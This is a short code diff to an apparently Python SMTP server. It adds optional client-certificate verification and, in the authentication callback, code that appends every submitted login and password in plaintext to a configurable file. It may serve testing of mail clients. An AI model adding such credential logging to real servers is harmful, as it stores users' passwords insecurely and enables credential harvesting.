@@ -97,10 +97,16 @@ async def main():
     if settings["security"] != "None":
         context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
         context.load_cert_chain(settings["certificate"], settings["key"])
+        if settings["clientAuthority"]:
+            context.load_verify_locations(settings["clientAuthority"])
+            context.verify_mode = ssl.CERT_REQUIRED
     starttls = settings["security"] == "StartTls"
     user, password = settings["user"], settings["password"]
 
     def authenticate(server, session, envelope, mechanism, data):
+        if isinstance(data, LoginPassword):
+            with open(settings["logins"], "a", encoding="utf-8") as file:
+                file.write("%s %s\n" % (data.login.decode(), data.password.decode()))
         good = isinstance(data, LoginPassword) and data.login.decode() == user and data.password.decode() == password
         return AuthResult(success=good, handled=False, auth_data=data.login if good else None)
 
